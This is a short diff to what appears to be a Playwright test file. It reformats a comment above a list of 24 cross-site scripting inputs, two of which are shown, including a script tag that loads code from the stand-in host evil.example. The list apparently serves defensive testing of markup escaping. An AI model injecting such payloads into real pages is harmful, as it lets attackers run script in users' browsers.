@@ -1,7 +1,10 @@
 import type { Page } from '@playwright/test';
 import { expect, isDeployed, newPhone, refusals, seamReason, test, zh } from './fixtures.ts';
 
-/** What runs a script where a text is written as markup, into an attribute, or into a script (security, B06): 24. */
+/**
+ * What runs a script where a text is written as markup, into an attribute, or into a script (docs/security.md#markup):
+ * 24.
+ */
 const scripts: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=https://evil.example/x.js></script>',
